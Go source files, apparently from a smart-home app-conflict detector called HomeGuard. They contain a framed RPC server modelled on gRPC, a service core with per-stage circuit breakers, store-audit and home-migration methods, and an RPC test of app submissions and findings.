	SubmitApps(ctx context.Context, req *api.SubmitAppsRequest) (*api.SubmitAppsResponse, *api.Error)
	Findings(ctx context.Context, req *api.FindingsRequest) (*api.FindingsResponse, *api.Error)
	Ping(ctx context.Context) (*api.PingResponse, *api.Error)
	MigrateHome(ctx context.Context, req *api.MigrateHomeRequest) (*api.MigrateHomeResponse, *api.Error)
	AdoptHome(ctx context.Context, req *api.AdoptHomeRequest) (*api.AdoptHomeResponse, *api.Error)
	// BreakerState reports the named stage's breaker ("" for an unknown
	// stage) for the homeguard_rpc_breaker_open gauge.
	BreakerState(stage string) string
}

// Server serves the framed RPC protocol over a net.Listener,
// dispatching to a Backend. One server handles any number of
// connections; each connection multiplexes concurrent RPCs by stream
// id.
type Server struct {
	svc  Backend
	opts ServerOptions
	m    *rpcMetrics

	mu     sync.Mutex
	lis    net.Listener
	conns  map[net.Conn]struct{}
	closed bool
	wg     sync.WaitGroup
}

// NewServer returns a server for b. When opts.Obs carries a
// registry, the server registers its metrics collector immediately.
func NewServer(b Backend, opts ServerOptions) *Server {
	if opts.DefaultTimeout == 0 {
		opts.DefaultTimeout = 30 * time.Second
	}
	s := &Server{svc: b, opts: opts, conns: map[net.Conn]struct{}{}, m: newRPCMetrics()}
	if opts.Obs != nil && opts.Obs.Registry != nil {
		s.m.register(opts.Obs.Registry, b)
	}
	return s
}

// Serve accepts connections on lis until Close. It returns nil after
// Close, or the accept error otherwise.
func (s *Server) Serve(lis net.Listener) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return errors.New("rpc: server closed")
	}
	s.lis = lis
	s.mu.Unlock()
	for {
		conn, err := lis.Accept()
		if err != nil {
			s.mu.Lock()
			closed := s.closed
			s.mu.Unlock()
			if closed {
				return nil
			}
			return err
		}
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			conn.Close()
			return nil
		}
		s.conns[conn] = struct{}{}
		s.wg.Add(1)
		s.mu.Unlock()
		go func() {
			defer s.wg.Done()
			s.handleConn(conn)
			s.mu.Lock()
			delete(s.conns, conn)
			s.mu.Unlock()
		}()
	}
}

// Close stops accepting, closes every live connection and waits for
// in-flight handlers.
func (s *Server) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	lis := s.lis
	for c := range s.conns {
		c.Close()
	}
	s.mu.Unlock()
	var err error
	if lis != nil {
		err = lis.Close()
	}
	s.wg.Wait()
	return err
}

// stream is the server-side state of one open client stream: the
// reader loop feeds MSG payloads into inbox and closes it on EOS.
type stream struct {
	inbox chan json.RawMessage
}

// handleConn runs one connection: verify the preface, then read frames
// and dispatch. RPC handlers run in their own goroutines; responses
// are serialized through the shared frame writer.
func (s *Server) handleConn(conn net.Conn) {
	defer conn.Close()
	br := bufio.NewReaderSize(conn, 32<<10)
	var pre [len(Preface)]byte
	if _, err := io.ReadFull(br, pre[:]); err != nil || string(pre[:]) != Preface {
		return
	}
	fw := &frameWriter{w: bufio.NewWriterSize(conn, 32<<10)}
	streams := map[uint64]*stream{}
	// Per-connection handler tracking: when the reader loop exits, the
	// connection context is canceled so abandoned handlers unwind.
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var wg sync.WaitGroup
	defer wg.Wait()

	for {
		f, err := readFrame(br)
		if err != nil {
			return
		}
		switch f.typ {
		case frameReq:
			var hdr reqHeader
			if err := json.Unmarshal(f.payload, &hdr); err != nil {
				s.writeStatus(fw, f.id, api.Errorf(api.CodeInvalidArgument, "bad request header: %v", err), nil)
				continue
			}
			if isStreamMethod(hdr.Method) {
				st := &stream{inbox: make(chan json.RawMessage, 16)}
				streams[f.id] = st
				wg.Add(1)
				go func(id uint64, hdr reqHeader, st *stream) {
					defer wg.Done()
					s.handleStream(ctx, fw, id, hdr, st)
				}(f.id, hdr, st)
				continue
			}
			wg.Add(1)
			go func(id uint64, hdr reqHeader) {
				defer wg.Done()
				s.handleUnary(ctx, fw, id, hdr)
			}(f.id, hdr)
		case frameMsg:
			if st, ok := streams[f.id]; ok {
				// Blocking here applies flow control: a stream consumer
				// that can't keep up backpressures the whole connection,
				// exactly like an HTTP/2 window running dry.
				st.inbox <- f.payload
			}
		case frameEOS:
			if st, ok := streams[f.id]; ok {
				close(st.inbox)
				delete(streams, f.id)
			}
		default:
			return // protocol error: drop the connection
		}
	}
}

// rpcCtx derives the RPC's context from the client deadline, falling
// back to the server default.
func (s *Server) rpcCtx(parent context.Context, deadlineMs int64) (context.Context, context.CancelFunc) {
	d := s.opts.DefaultTimeout
	if deadlineMs > 0 {
		d = time.Duration(deadlineMs) * time.Millisecond
	}
	if d <= 0 {
		return context.WithCancel(parent)
	}
	return context.WithTimeout(parent, d)
}

// intercept wraps one RPC invocation with a span and the
// homeguard_rpc_* metrics, returning the handler's error unchanged.
func (s *Server) intercept(method string, fn func(sp *obs.Span) *api.Error) *api.Error {
	var sp *obs.Span
	if s.opts.Obs != nil {
		sp = s.opts.Obs.Tracer.Start("rpc." + method)
		sp.SetStr("method", method)
	}
	start := time.Now()
	aerr := fn(sp)
	code := api.CodeOK
	if aerr != nil {
		code = aerr.Code
	}
	sp.SetStr("code", string(code))
	sp.End()
	s.m.observe(method, code, time.Since(start))
	return aerr
}

// handleUnary decodes, dispatches and responds to one unary RPC.
func (s *Server) handleUnary(parent context.Context, fw *frameWriter, id uint64, hdr reqHeader) {
	ctx, cancel := s.rpcCtx(parent, hdr.DeadlineMs)
	defer cancel()
	var body any
	aerr := s.intercept(hdr.Method, func(sp *obs.Span) *api.Error {
		if sp != nil {
			ctx = obs.ContextWithSpan(ctx, sp)
		}
		var e *api.Error
		body, e = s.dispatch(ctx, hdr.Method, hdr.Body)
		return e
	})
	s.writeStatus(fw, id, aerr, body)
}

// dispatch routes one unary method.
func (s *Server) dispatch(ctx context.Context, method string, body json.RawMessage) (any, *api.Error) {
	switch method {
	case "Install":
		req := new(api.InstallRequest)
		if aerr := decodeBody(body, req); aerr != nil {
			return nil, aerr
		}
		return s.svc.Install(ctx, req)
	case "InstallBatch":
		req := new(api.InstallBatchRequest)
		if aerr := decodeBody(body, req); aerr != nil {
			return nil, aerr
		}
		return s.svc.InstallBatch(ctx, req)
	case "Reconfigure":
		req := new(api.ReconfigureRequest)
		if aerr := decodeBody(body, req); aerr != nil {
			return nil, aerr
		}
		return s.svc.Reconfigure(ctx, req)
	case "Threats":
		req := new(api.ThreatsRequest)
		if aerr := decodeBody(body, req); aerr != nil {
			return nil, aerr
		}
		return s.svc.Threats(ctx, req)
	case "Accept":
		req := new(api.AcceptRequest)
		if aerr := decodeBody(body, req); aerr != nil {
			return nil, aerr
		}
		return s.svc.Accept(ctx, req)
	case "Apps":
		req := new(api.AppsRequest)
		if aerr := decodeBody(body, req); aerr != nil {
			return nil, aerr
		}
		return s.svc.Apps(ctx, req.Home)
	case "SubmitApps":
		req := new(api.SubmitAppsRequest)
		if aerr := decodeBody(body, req); aerr != nil {
			return nil, aerr
		}
		return s.svc.SubmitApps(ctx, req)
	case "Findings":
		req := new(api.FindingsRequest)
		if aerr := decodeBody(body, req); aerr != nil {
			return nil, aerr
		}
		return s.svc.Findings(ctx, req)
	case "Ping":
		return s.svc.Ping(ctx)
	case "MigrateHome":
		req := new(api.MigrateHomeRequest)
		if aerr := decodeBody(body, req); aerr != nil {
			return nil, aerr
		}
		return s.svc.MigrateHome(ctx, req)
	case "AdoptHome":
		req := new(api.AdoptHomeRequest)
		if aerr := decodeBody(body, req); aerr != nil {
			return nil, aerr
		}
		return s.svc.AdoptHome(ctx, req)
	default:
		return nil, api.Errorf(api.CodeNotFound, "unknown method %q", method)
	}
}

func isStreamMethod(method string) bool {
	return method == "StreamInstall" || method == "StreamThreats"
}

// handleStream runs one bidirectional stream: requests arrive on the
// inbox in order, each produces one MSG reply (result or per-item
// error), and a RES trailer closes the stream. Per-item failures do
// not tear the stream down; only transport errors and stream-level
// deadline expiry do.
func (s *Server) handleStream(parent context.Context, fw *frameWriter, id uint64, hdr reqHeader, st *stream) {
	ctx, cancel := s.rpcCtx(parent, hdr.DeadlineMs)
	defer cancel()
	s.m.streamOpen()
	defer s.m.streamClose()
	aerr := s.intercept(hdr.Method, func(sp *obs.Span) *api.Error {
		if sp != nil {
			ctx = obs.ContextWithSpan(ctx, sp)
		}
		n := 0
		defer func() { sp.SetInt("msgs", int64(n)) }()
		for {
			select {
			case payload, ok := <-st.inbox:
				if !ok {
					return nil // client half-closed: trailer follows
				}
				n++
				s.m.streamMsg()
				item := s.streamItemFor(ctx, hdr.Method, payload)
				if err := fw.writeJSON(frameMsg, id, item); err != nil {
					return api.Errorf(api.CodeUnavailable, "stream write: %v", err)
				}
			case <-ctx.Done():
				return api.FromErr(ctx.Err())
			}
		}
	})
	s.writeStatus(fw, id, aerr, nil)
}

// streamItemFor runs one streamed request and wraps its outcome.
func (s *Server) streamItemFor(ctx context.Context, method string, payload json.RawMessage) streamItem {
	var (
		res  any
		aerr *api.Error
	)
	switch method {
	case "StreamInstall":
		req := new(api.InstallRequest)
		if aerr = decodeBody(payload, req); aerr == nil {
			res, aerr = s.svc.Install(ctx, req)
		}
	case "StreamThreats":
		req := new(api.ThreatsRequest)
		if aerr = decodeBody(payload, req); aerr == nil {
			res, aerr = s.svc.Threats(ctx, req)
		}
	}
	if aerr != nil {
		return streamItem{Error: aerr}
	}
	b, err := json.Marshal(res)
	if err != nil {
		return streamItem{Error: api.Errorf(api.CodeInternal, "encode result: %v", err)}
	}
	return streamItem{Result: b}
}

// writeStatus emits the RES frame for one finished RPC.
func (s *Server) writeStatus(fw *frameWriter, id uint64, aerr *api.Error, body any) {
	res := resPayload{}
	if aerr != nil {
		res.Status = aerr.Code.GRPC()
		res.Error = aerr
	} else if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			res.Status = api.CodeInternal.GRPC()
			res.Error = api.Errorf(api.CodeInternal, "encode response: %v", err)
		} else {
			res.Body = b
		}
	}
	// A write failure means the connection died; the reader loop
	// notices and unwinds.
	_ = fw.writeJSON(frameRes, id, res)
}

// decodeBody unmarshals a request body, mapping malformed JSON to
// INVALID_ARGUMENT.
func decodeBody(body json.RawMessage, into any) *api.Error {
	if len(body) == 0 {
		return api.Errorf(api.CodeInvalidArgument, "empty request body")
	}
	if err := json.Unmarshal(body, into); err != nil {
		return api.Errorf(api.CodeInvalidArgument, "bad request body: %v", err)
	}
	return nil
}

// ---------- metrics ----------

// rpcMetrics aggregates the homeguard_rpc_* catalog. Counters are a
// mutex-guarded map keyed by (method, code) — RPC dispatch is far from
// the solver hot path, so a mutex is fine — and latency is one shared
// atomic histogram.
type rpcMetrics struct {
	mu      sync.Mutex
	byCode  map[[2]string]uint64 // (method, code) → count
	latency *obs.Histogram

	streamsActive atomic.Int64
	streamMsgs    atomic.Uint64
}

func newRPCMetrics() *rpcMetrics {
	return &rpcMetrics{byCode: map[[2]string]uint64{}, latency: &obs.Histogram{}}
}

func (m *rpcMetrics) observe(method string, code api.Code, d time.Duration) {
	m.latency.Observe(d)
	m.mu.Lock()
	m.byCode[[2]string{method, string(code)}]++
	m.mu.Unlock()
}

func (m *rpcMetrics) streamOpen()  { m.streamsActive.Add(1) }
func (m *rpcMetrics) streamClose() { m.streamsActive.Add(-1) }
func (m *rpcMetrics) streamMsg()   { m.streamMsgs.Add(1) }

// register exports the catalog through a scrape-time collector.
func (m *rpcMetrics) register(reg *obs.Registry, svc Backend) {
	reg.RegisterCollector(func(e *obs.Emit) {
		m.mu.Lock()
		keys := make([][2]string, 0, len(m.byCode))
		for k := range m.byCode {
			keys = append(keys, k)
		}
		sort.Slice(keys, func(i, j int) bool {
			if keys[i][0] != keys[j][0] {
				return keys[i][0] < keys[j][0]
			}
			return keys[i][1] < keys[j][1]
		})
		counts := make([]uint64, len(keys))
		for i, k := range keys {
			counts[i] = m.byCode[k]
		}
		m.mu.Unlock()
		for i, k := range keys {
			e.Counter("homeguard_rpc_requests_total", "RPC requests by method and gRPC status code.",
				float64(counts[i]), obs.Label{Name: "method", Value: k[0]}, obs.Label{Name: "code", Value: k[1]})
		}
		e.Histogram("homeguard_rpc_latency_seconds", "Server-side RPC latency (all methods).", m.latency.Snapshot())
		e.Gauge("homeguard_rpc_streams_active", "Currently open RPC streams.", float64(m.streamsActive.Load()))
		e.Counter("homeguard_rpc_stream_msgs_total", "Messages processed on RPC streams.", float64(m.streamMsgs.Load()))
		for _, stage := range []string{StageExtract, StageDetect} {
			e.Gauge("homeguard_rpc_breaker_open", "Circuit breaker state by stage (0 closed, 0.5 half-open, 1 open).",
				breakerGaugeValue(svc.BreakerState(stage)), obs.Label{Name: "stage", Value: stage})
		}
	})
}

func breakerGaugeValue(state string) float64 {
	switch state {
	case BreakerOpen:
		return 1
	case BreakerHalfOpen:
		return 0.5
	}
	return 0
}
