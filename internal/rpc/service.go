package rpc

import (
	"context"
	"fmt"

	"homeguard/internal/api"
	"homeguard/internal/audit"
	"homeguard/internal/detect"
	"homeguard/internal/fleet"
)

// Pipeline stages guarded by independent circuit breakers. Extraction
// and detection fail independently — a pathological Groovy corpus can
// wedge symbolic execution while cached-app detection stays healthy,
// and a dense home can blow detection budgets while extraction is fine
// — so each stage sheds on its own.
const (
	StageExtract = "extract"
	StageDetect  = "detect"
)

// ServiceOptions tune the transport-shared service core.
type ServiceOptions struct {
	// Breaker configures both stage breakers.
	Breaker BreakerOptions
	// Auditor, when set, serves the store endpoints (SubmitApps,
	// Findings). Nil edges reject store calls with FAILED_PRECONDITION.
	Auditor *audit.Auditor
	// NodeID names this node in Ping responses (homeguardd -node-id) so
	// the gateway's heartbeat can verify it is probing who it thinks.
	NodeID string
}

// Service is the transport-neutral core of the enforcement edge: the
// HTTP handlers in cmd/homeguardd and the RPC dispatch in this package
// both call these methods, so verdicts, error codes and breaker
// behavior are identical on either wire. Methods take and return the
// api package's DTOs and report failures as *api.Error — the envelope
// each transport writes verbatim.
type Service struct {
	fleet   *fleet.Fleet
	auditor *audit.Auditor
	extract *Breaker
	detect  *Breaker
	node    string

	// inject, when set, runs before each guarded stage and its error
	// (if any) replaces the stage — the test hook for breaker behavior.
	inject func(stage string) error
}

// NewService wraps a fleet with per-stage circuit breakers.
func NewService(f *fleet.Fleet, opts ServiceOptions) *Service {
	return &Service{
		fleet:   f,
		auditor: opts.Auditor,
		extract: NewBreaker(opts.Breaker),
		detect:  NewBreaker(opts.Breaker),
		node:    opts.NodeID,
	}
}

// Auditor returns the store auditor (nil when the edge serves none).
func (s *Service) Auditor() *audit.Auditor { return s.auditor }

// Fleet returns the wrapped fleet.
func (s *Service) Fleet() *fleet.Fleet { return s.fleet }

// BreakerState reports the named stage's breaker state (for /metrics
// and tests).
func (s *Service) BreakerState(stage string) string {
	if b := s.breaker(stage); b != nil {
		return b.State()
	}
	return ""
}

func (s *Service) breaker(stage string) *Breaker {
	switch stage {
	case StageExtract:
		return s.extract
	case StageDetect:
		return s.detect
	}
	return nil
}

// breakerCounts reports whether an error indicates stage ill-health
// (and so counts toward opening the breaker). Client-caused errors —
// unknown homes, unparsable sources, bad configs — mean the stage did
// its job and count as successes.
func breakerCounts(e *api.Error) bool {
	if e == nil {
		return false
	}
	switch e.Code {
	case api.CodeInternal, api.CodeDeadlineExceeded, api.CodeUnavailable:
		return true
	}
	return false
}

// runStage executes op under the stage's breaker and the RPC deadline.
// A shed request fails fast with UNAVAILABLE and a retry hint; an op
// that outlives ctx returns DEADLINE_EXCEEDED (the op goroutine is
// abandoned — it completes in the background and, for extraction,
// still warms the shared cache); a panic inside op becomes INTERNAL.
// Timeouts, panics and internal errors feed the breaker; client errors
// reset it.
func (s *Service) runStage(ctx context.Context, stage string, b *Breaker, op func() error) *api.Error {
	if err := ctx.Err(); err != nil {
		return api.FromErr(err)
	}
	ok, retry := b.Allow()
	if !ok {
		aerr := api.Errorf(api.CodeUnavailable, "%s stage circuit breaker open", stage)
		if ms := retry.Milliseconds(); ms > 0 {
			aerr.RetryAfterMs = ms
		} else {
			aerr.RetryAfterMs = 1
		}
		return aerr
	}
	done := make(chan *api.Error, 1)
	go func() {
		defer func() {
			if r := recover(); r != nil {
				done <- api.Errorf(api.CodeInternal, "%s stage panic: %v", stage, r)
			}
		}()
		if s.inject != nil {
			if err := s.inject(stage); err != nil {
				done <- api.FromErr(err)
				return
			}
		}
		done <- api.FromErr(op())
	}()
	select {
	case aerr := <-done:
		if breakerCounts(aerr) {
			b.Failure()
		} else {
			b.Success()
		}
		return aerr
	case <-ctx.Done():
		b.Failure()
		return api.FromErr(ctx.Err())
	}
}

// Install extracts and installs one app into one home, returning the
// detection verdict. Extraction runs first under the extract breaker
// (through the fleet's shared content-addressed cache), then the
// install — which joins the warm cache entry — runs under the detect
// breaker.
func (s *Service) Install(ctx context.Context, req *api.InstallRequest) (*api.InstallResponse, *api.Error) {
	if req.Home == "" {
		return nil, api.Errorf(api.CodeInvalidArgument, "home is required")
	}
	src, aerr := req.ResolveSource()
	if aerr != nil {
		return nil, aerr
	}
	cfg, aerr := req.Config.ToDetect()
	if aerr != nil {
		return nil, aerr
	}
	if aerr := s.runStage(ctx, StageExtract, s.extract, func() error {
		_, err := s.fleet.Cache().Extract(src, "")
		if err != nil {
			return fmt.Errorf("extraction failed: %w", err)
		}
		return nil
	}); aerr != nil {
		return nil, aerr
	}
	var res *fleet.InstallResult
	if aerr := s.runStage(ctx, StageDetect, s.detect, func() error {
		r, err := s.fleet.Install(ctx, req.Home, src, cfg)
		if err != nil {
			return err
		}
		res = r
		return nil
	}); aerr != nil {
		return nil, aerr
	}
	return api.InstallResponseOf(res), nil
}

// InstallBatch installs several apps into one home. The parallel
// extraction prewarm runs as one extract-breaker stage, the in-order
// installs as one detect-breaker stage; item-level failures (bad
// source, unparsable app) are reported per item and neither stop the
// batch nor trip a breaker.
func (s *Service) InstallBatch(ctx context.Context, req *api.InstallBatchRequest) (*api.InstallBatchResponse, *api.Error) {
	if req.Home == "" {
		return nil, api.Errorf(api.CodeInvalidArgument, "home is required")
	}
	if len(req.Items) == 0 {
		return nil, api.Errorf(api.CodeInvalidArgument, "batch has no items")
	}
	resp := &api.InstallBatchResponse{
		HomeID:  req.Home,
		Results: make([]api.BatchItemResult, len(req.Items)),
	}
	items := make([]fleet.BatchItem, len(req.Items))
	resolved := make([]bool, len(req.Items))
	for i := range req.Items {
		src, aerr := req.Items[i].ResolveSource()
		if aerr != nil {
			resp.Results[i] = api.BatchItemResult{Error: aerr}
			continue
		}
		cfg, aerr := req.Items[i].Config.ToDetect()
		if aerr != nil {
			resp.Results[i] = api.BatchItemResult{Error: aerr}
			continue
		}
		items[i] = fleet.BatchItem{Source: src, Config: cfg}
		resolved[i] = true
	}
	// The resolvable subset runs through the fleet's batch path (which
	// prewarms extraction in parallel), guarded as one detect stage;
	// extraction health is accounted by the Install path — a wedged
	// extractor times the whole batch out and trips detect here, which
	// still sheds batches.
	sub := make([]fleet.BatchItem, 0, len(items))
	for i := range items {
		if resolved[i] {
			sub = append(sub, items[i])
		}
	}
	if len(sub) > 0 {
		var results []fleet.BatchResult
		if aerr := s.runStage(ctx, StageDetect, s.detect, func() error {
			results = s.fleet.InstallBatch(ctx, req.Home, sub)
			return nil
		}); aerr != nil {
			return nil, aerr
		}
		j := 0
		for i := range items {
			if !resolved[i] {
				continue
			}
			br := results[j]
			j++
			if br.Err != nil {
				resp.Results[i] = api.BatchItemResult{Error: api.FromErr(br.Err)}
			} else {
				resp.Results[i] = api.BatchItemResult{Result: api.InstallResponseOf(br.Result)}
			}
		}
	}
	return resp, nil
}

// Reconfigure updates one installed app's configuration and re-runs
// detection under the detect breaker (no extraction stage: the app's
// rules are already extracted).
func (s *Service) Reconfigure(ctx context.Context, req *api.ReconfigureRequest) (*api.ReconfigureResponse, *api.Error) {
	if req.Home == "" {
		return nil, api.Errorf(api.CodeInvalidArgument, "home is required")
	}
	if req.App == "" {
		return nil, api.Errorf(api.CodeInvalidArgument, "app is required")
	}
	cfg, aerr := req.Config.ToDetect()
	if aerr != nil {
		return nil, aerr
	}
	var res *fleet.ReconfigureResult
	if aerr := s.runStage(ctx, StageDetect, s.detect, func() error {
		r, err := s.fleet.Reconfigure(ctx, req.Home, req.App, cfg)
		if err != nil {
			return err
		}
		res = r
		return nil
	}); aerr != nil {
		return nil, aerr
	}
	return api.ReconfigureResponseOf(res), nil
}

// Threats reads one home's threat log, or its active (ledger) set when
// req.Active is set. Reads are cheap and skip the breakers.
func (s *Service) Threats(ctx context.Context, req *api.ThreatsRequest) (*api.ThreatsResponse, *api.Error) {
	if err := ctx.Err(); err != nil {
		return nil, api.FromErr(err)
	}
	if req.Home == "" {
		return nil, api.Errorf(api.CodeInvalidArgument, "home is required")
	}
	var (
		ts  []detect.Threat
		err error
	)
	if req.Active {
		ts, err = s.fleet.ActiveThreats(req.Home)
	} else {
		ts, err = s.fleet.Threats(req.Home)
	}
	if err != nil {
		return nil, api.FromErr(err)
	}
	logBase := 0
	if req.Active {
		logBase = -1 // active-set entries carry no log positions
	}
	return &api.ThreatsResponse{
		HomeID:  req.Home,
		Active:  req.Active,
		Threats: api.ThreatsOf(ts, logBase),
	}, nil
}

// Accept records user-approved threats by threat-log index.
func (s *Service) Accept(ctx context.Context, req *api.AcceptRequest) (*api.AcceptResponse, *api.Error) {
	if err := ctx.Err(); err != nil {
		return nil, api.FromErr(err)
	}
	if req.Home == "" {
		return nil, api.Errorf(api.CodeInvalidArgument, "home is required")
	}
	if len(req.Threats) == 0 {
		return nil, api.Errorf(api.CodeInvalidArgument, "no threat indices given")
	}
	if err := s.fleet.AcceptByIndex(req.Home, req.Threats...); err != nil {
		return nil, api.FromErr(err)
	}
	return &api.AcceptResponse{HomeID: req.Home, Accepted: len(req.Threats)}, nil
}

// SubmitApps applies one batch of store submits/updates/removes to the
// incremental auditor and returns the resulting revision. The whole
// batch — extraction of the changed apps plus the delta re-detection —
// runs as one detect-breaker stage: per-app failures (bad sources,
// unknown removes) are reported in the revision's error map and count
// as stage successes, while panics and timeouts shed as usual.
func (s *Service) SubmitApps(ctx context.Context, req *api.SubmitAppsRequest) (*api.SubmitAppsResponse, *api.Error) {
	if s.auditor == nil {
		return nil, api.Errorf(api.CodeFailedPrecondition, "this edge serves no app store")
	}
	if len(req.Upserts) == 0 && len(req.Removes) == 0 {
		return nil, api.Errorf(api.CodeInvalidArgument, "batch has no upserts and no removes")
	}
	batch := audit.Batch{Removes: req.Removes}
	for i := range req.Upserts {
		src, aerr := req.Upserts[i].ResolveSource()
		if aerr != nil {
			return nil, aerr
		}
		cfg, aerr := req.Upserts[i].Config.ToDetect()
		if aerr != nil {
			return nil, aerr
		}
		batch.Upserts = append(batch.Upserts, audit.App{
			Name:   req.Upserts[i].Name,
			Source: src,
			Config: cfg,
		})
	}
	var rev *audit.Revision
	if aerr := s.runStage(ctx, StageDetect, s.detect, func() error {
		r, err := s.auditor.Apply(batch)
		if err != nil {
			return err
		}
		rev = r
		return nil
	}); aerr != nil {
		return nil, aerr
	}
	return api.SubmitAppsResponseOf(rev), nil
}

// Findings reads the store findings feed from req.Since. Reads are
// cheap and skip the breakers.
func (s *Service) Findings(ctx context.Context, req *api.FindingsRequest) (*api.FindingsResponse, *api.Error) {
	if err := ctx.Err(); err != nil {
		return nil, api.FromErr(err)
	}
	if s.auditor == nil {
		return nil, api.Errorf(api.CodeFailedPrecondition, "this edge serves no app store")
	}
	return api.FindingsResponseOf(s.auditor.FindingsSince(req.Since)), nil
}

// Ping answers the gateway heartbeat with the node's identity and home
// count. It deliberately touches no breaker and no home lock (NumHomes
// takes only shard read-locks), so a node shedding work still answers
// its heartbeat — health and load-shedding are separate signals.
func (s *Service) Ping(ctx context.Context) (*api.PingResponse, *api.Error) {
	if err := ctx.Err(); err != nil {
		return nil, api.FromErr(err)
	}
	return &api.PingResponse{Node: s.node, Homes: s.fleet.NumHomes()}, nil
}

// MigrateHome exports one home's durable state and detaches it from
// this node: after a successful return the home is gone here (requests
// for it fail NOT_FOUND) and the snapshot is the caller's to hand to
// AdoptHome on the new owner. The detach is WAL-logged before the
// response, so a crash between migrate and adopt never resurrects the
// home on the old owner.
func (s *Service) MigrateHome(ctx context.Context, req *api.MigrateHomeRequest) (*api.MigrateHomeResponse, *api.Error) {
	if err := ctx.Err(); err != nil {
		return nil, api.FromErr(err)
	}
	if req.Home == "" {
		return nil, api.Errorf(api.CodeInvalidArgument, "home is required")
	}
	blob, apps, err := s.fleet.DetachHome(req.Home)
	if err != nil {
		return nil, api.FromErr(err)
	}
	return &api.MigrateHomeResponse{HomeID: req.Home, Apps: apps, Snapshot: blob}, nil
}

// AdoptHome imports a home exported by MigrateHome. Adopting a home ID
// this node already serves fails ALREADY_EXISTS (a retried adopt after
// a success must not double-apply).
func (s *Service) AdoptHome(ctx context.Context, req *api.AdoptHomeRequest) (*api.AdoptHomeResponse, *api.Error) {
	if err := ctx.Err(); err != nil {
		return nil, api.FromErr(err)
	}
	if req.Home == "" {
		return nil, api.Errorf(api.CodeInvalidArgument, "home is required")
	}
	if len(req.Snapshot) == 0 {
		return nil, api.Errorf(api.CodeInvalidArgument, "snapshot is required")
	}
	apps, err := s.fleet.ImportHome(req.Home, req.Snapshot)
	if err != nil {
		return nil, api.FromErr(err)
	}
	return &api.AdoptHomeResponse{HomeID: req.Home, Apps: apps}, nil
}

// Apps lists one home's installed apps in install order.
func (s *Service) Apps(ctx context.Context, home string) (*api.AppsResponse, *api.Error) {
	if err := ctx.Err(); err != nil {
		return nil, api.FromErr(err)
	}
	if home == "" {
		return nil, api.Errorf(api.CodeInvalidArgument, "home is required")
	}
	apps, err := s.fleet.Apps(home)
	if err != nil {
		return nil, api.FromErr(err)
	}
	return &api.AppsResponse{HomeID: home, Apps: apps}, nil
}
