package rpc

import (
	"context"
	"testing"

	"homeguard/internal/api"
	"homeguard/internal/audit"
)

func TestRPCStoreSubmitAndFindings(t *testing.T) {
	_, client := startEdge(t, ServiceOptions{
		Auditor: audit.NewAuditor(audit.AuditorOptions{}),
	}, ServerOptions{})
	ctx := context.Background()

	// First submission: two corpus apps whose interaction is a known
	// interference pair.
	res, err := client.SubmitApps(ctx, &api.SubmitAppsRequest{
		Upserts: []api.StoreApp{{Corpus: "ComfortTV"}, {Corpus: "ColdDefender"}},
	})
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if res.Rev != 1 || res.Apps != 2 {
		t.Errorf("submit = rev %d, %d apps; want rev 1, 2 apps", res.Rev, res.Apps)
	}
	if len(res.Added) == 0 {
		t.Fatal("ComfortTV+ColdDefender submission reported no added findings")
	}
	for _, f := range res.Added {
		if f.App1 == "" || f.App2 == "" || f.Threat.Kind == "" || f.Threat.Text == "" {
			t.Errorf("finding missing fields: %+v", f)
		}
	}

	// The feed from rev 0 replays the whole delta.
	feed, err := client.Findings(ctx, &api.FindingsRequest{Since: 0})
	if err != nil {
		t.Fatalf("findings: %v", err)
	}
	if feed.Rev != 1 || feed.Reset {
		t.Errorf("feed = rev %d reset=%v; want rev 1, no reset", feed.Rev, feed.Reset)
	}
	if len(feed.Added) != len(res.Added) || len(feed.Resolved) != 0 {
		t.Errorf("feed delta = +%d/-%d, submit reported +%d", len(feed.Added), len(feed.Resolved), len(res.Added))
	}

	// Removing one side of the pair resolves its findings.
	res, err = client.SubmitApps(ctx, &api.SubmitAppsRequest{Removes: []string{"ColdDefender"}})
	if err != nil {
		t.Fatalf("remove: %v", err)
	}
	if res.Rev != 2 || res.Apps != 1 || len(res.Resolved) == 0 {
		t.Errorf("remove = rev %d, %d apps, -%d; want rev 2, 1 app, resolved findings", res.Rev, res.Apps, len(res.Resolved))
	}
	feed, err = client.Findings(ctx, &api.FindingsRequest{Since: 1})
	if err != nil {
		t.Fatalf("findings since 1: %v", err)
	}
	if feed.Rev != 2 || len(feed.Added) != 0 || len(feed.Resolved) != len(res.Resolved) {
		t.Errorf("feed since 1 = rev %d +%d/-%d; want rev 2, -%d only", feed.Rev, len(feed.Added), len(feed.Resolved), len(res.Resolved))
	}

	// Per-app failures ride in the response without failing the batch.
	res, err = client.SubmitApps(ctx, &api.SubmitAppsRequest{Removes: []string{"NoSuchApp"}})
	if err != nil {
		t.Fatalf("remove unknown: %v", err)
	}
	if e := res.Errors["NoSuchApp"]; e == nil || e.Code != api.CodeNotFound {
		t.Errorf("unknown remove error = %+v; want NOT_FOUND envelope", res.Errors["NoSuchApp"])
	}

	// An empty batch is a client error.
	if _, err := client.SubmitApps(ctx, &api.SubmitAppsRequest{}); codeOf(t, err) != api.CodeInvalidArgument {
		t.Errorf("empty batch code = %v, want INVALID_ARGUMENT", codeOf(t, err))
	}
}

func TestRPCStoreDisabledEdge(t *testing.T) {
	_, client := startEdge(t, ServiceOptions{}, ServerOptions{})
	ctx := context.Background()

	_, err := client.SubmitApps(ctx, &api.SubmitAppsRequest{
		Upserts: []api.StoreApp{{Corpus: "ComfortTV"}},
	})
	if codeOf(t, err) != api.CodeFailedPrecondition {
		t.Errorf("SubmitApps on storeless edge = %v, want FAILED_PRECONDITION", codeOf(t, err))
	}
	_, err = client.Findings(ctx, &api.FindingsRequest{})
	if codeOf(t, err) != api.CodeFailedPrecondition {
		t.Errorf("Findings on storeless edge = %v, want FAILED_PRECONDITION", codeOf(t, err))
	}
}
