// Package rpc is HomeGuard's gRPC enforcement edge: the framed
// request/response transport cmd/homeguardd serves alongside HTTP, the
// per-stage circuit breakers that shed load when extraction or
// detection degrades, and the service core both transports share.
//
// # Protocol
//
// The wire protocol models gRPC: the status-code vocabulary, numeric
// values and error semantics are gRPC's (api.Code.GRPC), every RPC
// carries an optional client deadline, and the method set offers unary
// calls plus bidirectional streams. The framing, however, is a
// self-contained length-prefixed format rather than HTTP/2 — this
